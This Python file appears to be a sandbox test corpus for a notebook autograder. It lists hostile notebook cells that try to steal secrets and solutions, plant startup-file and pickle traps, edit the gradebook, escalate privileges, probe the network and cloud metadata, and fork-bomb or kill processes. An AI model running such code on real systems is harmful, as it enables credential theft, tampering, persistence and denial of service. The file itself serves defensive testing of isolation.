"""Attacks on the machine: what a cell could read, write, reach or leave behind outside its job."""

from __future__ import annotations

from corpus.hostile import Attack, cell, silent_cell

READING: dict[str, Attack] = {
    "reads the course": cell(
        "reads sources, exercises, the secret and the gradebook by their paths",
        """
        import glob
        for path in glob.glob("@COURSE@/**", recursive=True) + ["@COURSE@/build/course_secret", "@OUTSIDE@/note.txt"]:
            try:
                print(LOOT, path, open(path, "rb").read()[:500])
            except OSError as error:
                print(error)
        """,
    ),
    "reads a neighbour": cell(
        "takes the solutions of another student",
        "import json\nfor one in json.load(open('@NEIGHBOUR@'))['cells']:\n    print(LOOT, one['source'])",
    ),
    "reads the tree": cell(
        "looks for notebooks, gradebooks and secrets in all the places there are",
        """
        import os
        for place in ("/tmp", "/home", "/root", "/data", "/var", "/srv", "/opt", "/mnt", "/run", "/proc/self/cwd/.."):
            for folder, _, names in os.walk(place):
                for name in names if "site-packages" not in folder else ():
                    if name.endswith((".ipynb", ".db", "exercises.py", "course_secret", "_history", "id_rsa")):
                        print(LOOT, folder, name)
        """,
    ),
    "reads environments": cell(
        "reads the variables of every process",
        """
        import glob, os
        for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
            try:
                text = open(path, "rb").read()
            except OSError:
                continue
            print(text.replace(b"\\0", b" ").decode(errors="replace"))
        print(dict(os.environ))
        """,
    ),
    "reads its own memory": cell(
        "looks in the memory that the warm parent left for what the grader knows",
        r"""
        import re
        pattern = re.compile(rb"canary-4c1f-\w{3}-\w{6}|vitrina_solutions[./]\w+|BEGIN SOLUTION\n")
        memory = open("/proc/self/mem", "rb")
        for row in open("/proc/self/maps"):
            first, last = (int(number, 16) for number in row.split()[0].split("-"))
            if " rw" not in row or last - first > 1 << 28:
                continue
            try:
                memory.seek(first)
                data = memory.read(last - first)
            except (OSError, ValueError):
                continue
            for found in pattern.findall(data):
                print(LOOT, found)
        """,
    ),
    "collects garbage": cell(
        "goes through every object for modules and data of the grader",
        """
        import gc, sys
        for name in list(sys.modules):
            if name.startswith(("vitrina_autograder", "vitrina_solutions", "nbgrader", "vitrina.explain.")):
                print(LOOT, name)
        for thing in gc.get_objects():
            if isinstance(thing, dict) and {"expected", "reference", "secret"} & set(map(str, list(thing)[:50])):
                if any(str(thing.get(key))[:1].isdigit() for key in ("expected", "secret")):
                    print(LOOT, thing)
        """,
    ),
    "imports the solutions": cell(
        "imports what holds the solutions, by name and by path",
        """
        import glob, importlib, sys
        for name in ("vitrina_solutions", "vitrina_solutions.lrp", "vitrina_autograder.exam", "vitrina.explain.lrp",
                     "vitrina.automata", "exercises", "assignments.week9_toy.exercises"):
            try:
                module = importlib.import_module(name)
                print(LOOT, name, [each for each in dir(module) if not each.startswith("_")])
            except ImportError as error:
                print(error)
        for place in [*sys.path, sys.prefix, "/data"]:
            for path in glob.glob(place + "/**/vitrina_solutions/*.py", recursive=True):
                print(LOOT, path)
        """,
    ),
    "inherited files": cell(
        "uses descriptors that the warm parent left open",
        """
        import os, stat, sys
        known = (sys.prefix, sys.base_prefix, "/dev/", "/proc/", "/usr/", os.getcwd(), "/home/student", "pipe:", "anon_inode:")
        for number in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink("/proc/self/fd/" + number)
            except OSError:
                continue
            if not target.startswith((*known, "socket:")) and "/vitrina-" not in target and "history" not in target:
                print(LOOT, number, target)
        """,
    ),
    "other processes": cell(
        "walks through the roots, folders and memory of other processes",
        """
        import glob, os
        for process in glob.glob("/proc/[0-9]*"):
            if process.endswith("/" + str(os.getpid())):
                continue
            for part in ("root/@COURSE@/build/course_secret", "cwd/course_secret", "mem", "root/etc/shadow"):
                try:
                    print(LOOT, process, part, open(process + "/" + part, "rb").read(50))
                except OSError as error:
                    print(error)
        """,
    ),
    "devices": cell(
        "reads disks, memory and the kernel's log",
        """
        import glob
        for path in ["/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port", "/proc/kcore", "/etc/shadow", *glob.glob("/dev/[svx]d*"),
                     *glob.glob("/dev/nvme*"), *glob.glob("/dev/loop*")]:
            try:
                print(LOOT, path, open(path, "rb").read(20))
            except OSError as error:
                print(error)
        """,
    ),
    "lifts the covers": cell(
        "unmounts what covers the grader's files, in namespaces of its own",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x20000) == 0:
            print(LOOT, "a user namespace")
        for place in ("/tmp", "/home/student", "/run", "/proc", os.getcwd(), "/"):
            for flags in (0, 2, 8):
                if libc.umount2(place.encode(), flags) == 0:
                    print(LOOT, "unmounted", place)
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/proc/1/root") == 0:
            print(LOOT, "mounted")
        """,
    ),
    "becomes root": cell(
        "becomes root",
        """
        import os, subprocess
        for become in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
            try:
                become()
                print(LOOT, os.getresuid(), os.getgroups()) if os.getuid() == 0 and not os.path.exists("/proc/self/never") else None
            except OSError as error:
                print(error)
        for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"]):
            try:
                done = subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
                print(LOOT, done.stdout) if "uid=0" in done.stdout else print(done.stderr)
            except (OSError, subprocess.TimeoutExpired) as error:
                print(error)
        """,
    ),
    "traces its guard": cell(
        "attaches to the process that guards it",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for process in {1, os.getppid()} - {os.getpid()}:
            if libc.ptrace(16, process, 0, 0) == 0:
                print(LOOT, "traces", process)
            try:
                print(LOOT, open(f"/proc/{process}/mem", "rb").name)
            except OSError as error:
                print(error)
        """,
    ),
    "history": cell(
        "reads the histories of IPython and of shells",
        """
        import glob, os, sqlite3
        ip = get_ipython()
        for _, _, text in ip.history_manager.search("*", n=500):
            if "answers." + "update" in str(text):
                print(LOOT, text)
        for path in glob.glob(os.path.expanduser("~/.*history")) + glob.glob("/root/.*history"):
            print(LOOT, path, open(path, "rb").read(100))
        """,
    ),
}  # fmt: skip

WRITING: dict[str, Attack] = {
    "writes everywhere": cell(
        "writes into the course, the system, the environment and the kit",
        """
        import os, sys, vitrina
        for folder in ("@COURSE@/build", "@COURSE@/build/submitted", "@OUTSIDE@"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(folder + "/hacked", "w").write("x")
            except OSError as error:
                print(error)
        for folder in ("/usr", "/etc", "/bin", sys.prefix, sys.prefix + "/bin", os.path.dirname(os.__file__),
                       os.path.dirname(vitrina.__file__), "/run", "/"):
            try:
                open(folder + "/hacked.py", "w").write("x")
                print(LOOT, folder)
            except OSError as error:
                print(error)
        """,
    ),
    "traps for later": cell(
        "leaves files that a later kernel or the grader would run",
        """
        import os
        evil = "open('@OUTSIDE@/trapped', 'w').write('x')"
        for path in ("sitecustomize.py", "usercustomize.py", "conftest.py", "nbgrader_config.py", "jupyter_config.py",
                     "ipython_config.py", "numpy.py", "evil.pth", "~/.ipython/profile_default/startup/0.py",
                     "~/.local/lib/python3.11/site-packages/evil.pth", "~/.config/matplotlib/matplotlibrc", "~/.bashrc"):
            path = os.path.expanduser(path)
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            open(path, "w").write(evil)
        """,
    ),
    "pickles for later": cell(
        "leaves pickles where somebody may load them",
        """
        import os, pickle
        class Evil:
            def __reduce__(self):
                return os.system, ("touch @OUTSIDE@/unpickled",)
        for name in ("results.pkl", "toy.json", "toy.pickle", "verdicts.json"):
            pickle.dump(Evil(), open(name, "wb"))
        """,
    ),
    "edits the gradebook": cell(
        "gives itself points in the gradebook",
        """
        import sqlite3
        for path in ("@COURSE@/build/gradebook.db", "../../../gradebook.db", "gradebook.db"):
            try:
                base = sqlite3.connect(path)
                base.execute("update grade set manual_score = 100, extra_credit = 100")
                base.commit()
                print(LOOT, path)
            except sqlite3.Error as error:
                print(error)
        """,
    ),
    "links in the job": cell(
        "fills its folders with links for the grader to follow",
        """
        import ipykernel.connect, os
        wires = os.path.dirname(ipykernel.connect.get_connection_file())
        for folder in (".", wires, os.path.expanduser("~")):
            for name, target in (("toy.ipynb", "@COURSE@/build/course_secret"), ("out", "@OUTSIDE@"), ("up", "../../..")):
                try:
                    os.symlink(target, os.path.join(folder, name))
                except OSError as error:
                    print(error)
        """,
    ),
    "makes devices": cell(
        "makes device files",
        "import os, stat\nfor kind in (stat.S_IFBLK, stat.S_IFCHR):\n    os.mknod('disk', kind | 0o666, os.makedev(8, 0))\nprint(LOOT)",
        says="",
    ),
    "deletes everything": cell(
        "deletes whatever it can",
        "import shutil\nfor folder in ('@COURSE@', '@OUTSIDE@', '/tmp', '/home', '/dev/shm', '.'):\n"
        "    shutil.rmtree(folder, ignore_errors=True)",
    ),
}  # fmt: skip

NETWORK: dict[str, Attack] = {
    "loopback": cell(
        "connects to a service of the grader's machine",
        """
        import socket
        for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
            try:
                socket.create_connection((host, @PORT@), timeout=1).sendall(b"hello")
                print(LOOT, host)
            except OSError as error:
                print(error)
        """,
    ),
    "datagrams": cell(
        "sends datagrams, asks name servers",
        """
        import socket
        for host, port in (("127.0.0.1", @PORT@), ("8.8.8.8", 53), ("255.255.255.255", 9), ("224.0.0.1", 9)):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", (host, port))
                if host != "127.0.0.1":
                    print(LOOT, host)
            except OSError as error:
                print(error)
        """,
    ),
    "abstract sockets": cell(
        "connects to a socket that has a name, but no file",
        "import socket\nline = socket.socket(socket.AF_UNIX)\nline.connect('\\0vitrina-@PORT@')\nline.sendall(b'x')\nprint(LOOT)",
    ),
    "downloads": cell(
        "downloads and installs something",
        """
        import subprocess, sys, urllib.request
        for address in ("http://127.0.0.1:@PORT@/", "http://169.254.169.254/latest/meta-data/", "http://example.org/"):
            try:
                print(LOOT, urllib.request.urlopen(address, timeout=1).read(100))
            except OSError as error:
                print(error)
        """,
    ),
    "raw sockets": cell(
        "opens sockets below TCP, or to the host",
        """
        import socket
        for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):
            try:
                socket.socket(family, kind, protocol)
                print(LOOT, family)
            except OSError as error:
                print(error)
        try:
            host = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            host.settimeout(1)
            host.connect((2, @PORT@))
            print(LOOT, "vsock")
        except OSError as error:
            print(error)
        """,
    ),
    "brings the network up": cell(
        "makes itself a network",
        "import fcntl, socket, struct\nline = socket.socket()\n"
        "fcntl.ioctl(line, 0x8914, struct.pack('16sh', b'lo', 0x41))\nfcntl.ioctl(line, 0x89F0, b'x' * 40)\nprint(LOOT)",
    ),
    "system sockets": cell(
        "talks to the system's services",
        """
        import glob, os, socket
        for path in ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/systemd/private", *glob.glob("/run/**", recursive=True)]:
            try:
                socket.socket(socket.AF_UNIX).connect(path)
                print(LOOT, path)
            except OSError as error:
                print(error)
        """,
    ),
}  # fmt: skip

_STAYS = (
    "import os, signal, sys, time\\n"
    "for name in ('SIGTERM', 'SIGHUP', 'SIGINT', 'SIGPIPE'):\\n"
    "    signal.signal(getattr(signal, name), signal.SIG_IGN)\\n"
    "time.sleep(600)  # survivor-4c1f"
)
STAYING: dict[str, Attack] = {
    "stays behind": cell(
        "leaves processes that outlive the job",
        f"""
        import os, subprocess, sys
        for _ in range(5):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "{_STAYS}"])
                os._exit(0)
        """,
    ),
    "fork bomb": cell(
        "forks until nobody can",
        """
        import os
        try:
            for _ in range(3000):
                if os.fork() == 0:
                    os.execvp("sleep", ["sleep", "300"])
            print(LOOT, "3000 processes")
        except OSError as error:
            print(error)
        """,
    ),
    "thread bomb": cell(
        "starts threads until nobody can",
        "import threading, time\nfor _ in range(3000):\n    threading.Thread(target=time.sleep, args=(300,), daemon=True).start()",
    ),
    "memory bomb": silent_cell(
        "fills the memory",
        "kept = []\nwhile True:\n    kept.append(bytearray(b'x') * (64 << 20))",
    ),
    "disk bomb": cell(
        "fills the disk",
        "for number in range(100_000):\n    open(f'{number}', 'wb').write(bytes(32 << 20))\nprint(LOOT)",
    ),
    "open files": cell(
        "opens files until nobody can", "kept = [open('/dev/null') for _ in range(100_000)]\nprint(LOOT)"
    ),
    "kills everything": silent_cell(
        "kills every process it can", "import os\nfor who in (1, os.getppid(), -1):\n    os.kill(who, 9)"
    ),
    "stops itself": silent_cell(
        "stops itself, so that nothing can be said to it", "import os\nos.kill(os.getpid(), 19)", says="cost the kernel"
    ),
    "closes everything": silent_cell("closes every descriptor", "import os\nos.closerange(0, 65536)"),
}

MACHINE: dict[str, Attack] = {**READING, **WRITING, **NETWORK, **STAYING}
